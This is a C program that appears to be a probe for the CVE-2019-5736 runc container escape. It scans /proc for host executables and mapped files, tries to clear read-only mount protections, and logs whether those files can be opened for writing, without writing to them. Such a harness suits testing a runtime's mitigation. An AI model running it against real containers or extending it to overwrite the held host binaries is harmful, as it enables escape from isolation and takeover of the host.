#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <linux/mount.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* CVE-2019-5736: holds the executable of every process that comes by and tries to write to it, while it runs
 * and when it is over. Never writes a byte: that it could is what it tells. The log is replaced whole. */

enum { HELD = 64 };

static int held[HELD];
static unsigned seen, caught, written;

/* A sealed memfd may be opened for writing, but not written. */
static int writable(int file) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    int again = open(path, O_RDWR | O_CLOEXEC);
    if (again < 0) return 0;
    int seals = fcntl(again, F_GET_SEALS);
    close(again);
    return seals < 0 || !(seals & F_SEAL_WRITE);
}

/* A file that is one of the container's own is no catch. */
static int foreign(int file) {
    char path[64], name[512];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    ssize_t length = readlink(path, name, sizeof name - 1);
    struct stat held, inside;
    if (length < 0 || fstat(file, &held)) return 1;
    name[length] = 0;
    return stat(name, &inside) || inside.st_dev != held.st_dev || inside.st_ino != held.st_ino;
}

static void try_file(const char *path) {
    static unsigned turn;
    int file = open(path, O_PATH | O_CLOEXEC);
    if (file < 0) return;
    seen++;
    if (!foreign(file)) {
        close(file);
        return;
    }
    caught++;
    /* A mount that only makes it read-only is undone. */
    struct mount_attr writes = {.attr_clr = MOUNT_ATTR_RDONLY};
    syscall(SYS_mount_setattr, file, "", AT_EMPTY_PATH, &writes, sizeof writes);
    mount(0, path, 0, MS_REMOUNT | MS_BIND, 0);
    umount2(path, MNT_DETACH);
    written += writable(file);
    int *slot = &held[turn++ % HELD];
    if (*slot > 0) {
        written += writable(*slot);
        close(*slot);
    }
    *slot = file;
}

/* What it runs from, and all that it maps. */
static void try_process(const char *pid) {
    char path[512];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    try_file(path);
    snprintf(path, sizeof path, "/proc/%s/map_files", pid);
    DIR *maps = opendir(path);
    for (struct dirent *one; maps && (one = readdir(maps));) {
        if (one->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "/proc/%s/map_files/%s", pid, one->d_name);
        try_file(path);
    }
    if (maps) closedir(maps);
}

static void tell(void) {
    FILE *log = fopen("/attack.new", "w");
    if (!log) return;
    fprintf(log, "{\"seen\": %u, \"caught\": %u, \"written\": %u}\n", seen, caught, written);
    fclose(log);
    rename("/attack.new", "/attack.log");
}

int main(void) {
    for (unsigned round = 0;; round++) {
        DIR *all = opendir("/proc");
        for (struct dirent *one; all && (one = readdir(all));)
            if (atoi(one->d_name) > 1) try_process(one->d_name);
        if (all) closedir(all);
        if (round % 64 == 0) tell();
        for (int at = 0; at < HELD && round % 16 == 0; at++)
            if (held[at] > 0) written += writable(held[at]);
    }
}
